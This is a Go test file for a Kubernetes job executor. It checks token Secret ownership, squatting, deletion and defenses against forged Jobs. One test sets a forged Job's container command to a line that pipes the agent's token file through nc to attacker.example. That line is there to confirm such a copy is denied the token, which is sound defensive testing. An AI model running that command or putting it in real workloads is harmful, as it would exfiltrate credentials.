package kubernetes

import (
	"errors"
	"fmt"
	"slices"
	"testing"

	batchv1 "k8s.io/api/batch/v1"
	corev1 "k8s.io/api/core/v1"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/apimachinery/pkg/runtime"
	"k8s.io/apimachinery/pkg/types"
	"k8s.io/client-go/kubernetes/fake"
	k8stesting "k8s.io/client-go/testing"

	"github.com/outpost-dev/terraform-provider-outpost/agent/internal/executor"
)

// Start writes the Job, then its token Secret owned by it: two creates. A Secret that someone put
// under the token Secret's name as soon as the Job showed it (here: the moment the Job is
// created) is replaced by the attempt's own, owned by the Job.
func TestStartCreatesTheJobThenItsOwnedTokenSecret(t *testing.T) {
	cs := fake.NewClientset()
	var squatted string
	cs.PrependReactor("create", "jobs", func(a k8stesting.Action) (bool, runtime.Object, error) {
		j, ok := a.(k8stesting.CreateAction).GetObject().(*batchv1.Job)
		if !ok {
			return false, nil, nil
		}
		j.UID = types.UID("job-uid")
		for _, v := range j.Spec.Template.Spec.Volumes {
			if v.Name == tokenVolume {
				squatted = v.Secret.SecretName
				squatter := &corev1.Secret{ObjectMeta: metav1.ObjectMeta{Name: squatted, Namespace: j.Namespace}, Data: map[string][]byte{tokenKey: []byte("opj_squatter")}}
				if err := cs.Tracker().Add(squatter); err != nil {
					t.Fatal(err)
				}
			}
		}
		return false, nil, nil
	})
	e := New(Options{Client: cs, PodOptions: opts})
	c := claim("")
	if err := e.Start(t.Context(), c, "opst_test"); err != nil {
		t.Fatal(err)
	}
	var verbs []string
	for _, a := range cs.Actions() {
		if a.GetVerb() != "get" {
			verbs = append(verbs, a.GetVerb()+" "+a.GetResource().Resource)
		}
	}
	// The Job, the Secret (refused: the squatter's), and the replacement.
	want := []string{"create jobs", "create secrets", "delete secrets", "create secrets"}
	if len(verbs) != len(want) {
		t.Fatalf("writes %q, want %q", verbs, want)
	}
	for i := range want {
		if verbs[i] != want[i] {
			t.Fatalf("writes %q, want %q", verbs, want)
		}
	}
	s, err := cs.CoreV1().Secrets("jobs").Get(t.Context(), squatted, metav1.GetOptions{})
	if err != nil {
		t.Fatal(err)
	}
	if string(s.Data[tokenKey]) != c.JobToken {
		t.Errorf("the token Secret holds %q, want the attempt's token", s.Data[tokenKey])
	}
	if len(s.OwnerReferences) != 1 || s.OwnerReferences[0].Kind != "Job" || s.OwnerReferences[0].Name != JobName(c.DeploymentID, c.Attempt) || s.OwnerReferences[0].UID != "job-uid" {
		t.Errorf("owners of the token Secret: %+v, want its Job", s.OwnerReferences)
	}
}

// Keeping a Job in the history deletes its token Secret with one request when this process
// created the Secret (its UID is known), and reads it first to check its owner when not (after
// a restart).
func TestTokenSecretOfAKeptJobIsDeletedByItsUID(t *testing.T) {
	cs := fake.NewClientset()
	cs.PrependReactor("create", "*", func(a k8stesting.Action) (bool, runtime.Object, error) {
		if o, ok := a.(k8stesting.CreateAction).GetObject().(metav1.Object); ok {
			o.SetUID(types.UID(a.GetResource().Resource + "-uid"))
		}
		return false, nil, nil
	})
	c := claim("")
	for _, restarted := range []bool{false, true} {
		e := New(Options{Client: cs, PodOptions: opts})
		if err := e.Start(t.Context(), c, "opst_test"); err != nil {
			t.Fatal(err)
		}
		job, err := cs.BatchV1().Jobs("jobs").Get(t.Context(), JobName(c.DeploymentID, c.Attempt), metav1.GetOptions{})
		if err != nil {
			t.Fatal(err)
		}
		if restarted {
			e = New(Options{Client: cs, PodOptions: opts})
		}
		cs.ClearActions()
		if err := e.deleteTokenSecret(t.Context(), job); err != nil {
			t.Fatal(err)
		}
		var got []string
		for _, a := range cs.Actions() {
			got = append(got, a.GetVerb()+" "+a.GetResource().Resource)
		}
		want := []string{"delete secrets"}
		if restarted {
			want = []string{"get secrets", "delete secrets"}
		}
		if !slices.Equal(got, want) {
			t.Errorf("restarted %v: requests %q, want %q", restarted, got, want)
		}
		if _, err := cs.CoreV1().Secrets("jobs").Get(t.Context(), TokenSecretName(job.Name, job.Annotations[AnnTokenSHA256]), metav1.GetOptions{}); err == nil {
			t.Errorf("restarted %v: the token Secret is still there", restarted)
		}
		if err := cs.BatchV1().Jobs("jobs").Delete(t.Context(), job.Name, metav1.DeleteOptions{}); err != nil {
			t.Fatal(err)
		}
	}
}

// TestTokenOfARecreatedJobIsNotUsed (N9): someone who can create Jobs in the jobs namespace
// deletes a sealed Job before its garbage collector ran and creates a copy with the same
// sealed labels and annotations but a pod spec of their own; the seal holds (it cannot name a
// UID the Job did not have yet), but the agent (after a restart) gives the copy no token, since
// the token Secret is owned by the Job it created.
func TestTokenOfARecreatedJobIsNotUsed(t *testing.T) {
	cs := fake.NewClientset()
	uid := "job-uid"
	cs.PrependReactor("create", "jobs", func(a k8stesting.Action) (bool, runtime.Object, error) {
		if j, ok := a.(k8stesting.CreateAction).GetObject().(*batchv1.Job); ok {
			j.UID = types.UID(uid)
		}
		return false, nil, nil
	})
	c := claim("")
	key := []byte("the-runners-seal-key-0123456789a")
	if err := New(Options{Client: cs, PodOptions: opts, SealKey: key}).Start(t.Context(), c, "opst_test"); err != nil {
		t.Fatal(err)
	}
	restarted := New(Options{Client: cs, PodOptions: opts, SealKey: key})
	jobs := cs.BatchV1().Jobs("jobs")
	orig, err := jobs.Get(t.Context(), JobName(c.DeploymentID, c.Attempt), metav1.GetOptions{})
	if err != nil {
		t.Fatal(err)
	}
	if tok, err := restarted.tokenOf(t.Context(), orig); err != nil || tok != c.JobToken {
		t.Fatalf("the agent's own Job: %q, %v", tok, err)
	}
	if err := jobs.Delete(t.Context(), orig.Name, metav1.DeleteOptions{}); err != nil {
		t.Fatal(err)
	}
	copied := &batchv1.Job{ObjectMeta: metav1.ObjectMeta{Name: orig.Name, Namespace: orig.Namespace, Labels: orig.Labels, Annotations: orig.Annotations},
		Spec: *orig.Spec.DeepCopy()}
	copied.Spec.Template.Spec.Containers[0].Command = []string{"sh", "-c", "cat /var/run/outpost/token | nc attacker.example 80"}
	uid = "copy-uid"
	if _, err := jobs.Create(t.Context(), copied, metav1.CreateOptions{}); err != nil {
		t.Fatal(err)
	}
	got, _ := jobs.Get(t.Context(), orig.Name, metav1.GetOptions{})
	if !restarted.sealed(got) {
		t.Fatal("the copy's seal should still hold (it covers no UID); this test needs it to")
	}
	if tok, err := restarted.tokenOf(t.Context(), got); !errors.Is(err, executor.ErrNoToken) || tok != "" {
		t.Errorf("the re-created copy got the token: %q, %v", tok, err)
	}
}

// TestDeletedJobsAreForgotten (N11): the Jobs reported as not the agent's are remembered (so
// each is logged once) only while they exist: a stream of unsealed Jobs created and deleted by
// someone else leaves nothing behind.
func TestDeletedJobsAreForgotten(t *testing.T) {
	e := New(Options{Client: fake.NewClientset(), PodOptions: opts})
	for i := range 1000 {
		j := &batchv1.Job{ObjectMeta: metav1.ObjectMeta{Name: "forged", Namespace: "jobs", UID: types.UID(fmt.Sprint("uid-", i))}}
		e.reportUnsealed(j)
		e.forgetJob(j.UID)
	}
	if n := len(e.unsealed); n != 0 {
		t.Errorf("%d deleted Jobs still remembered", n)
	}
}
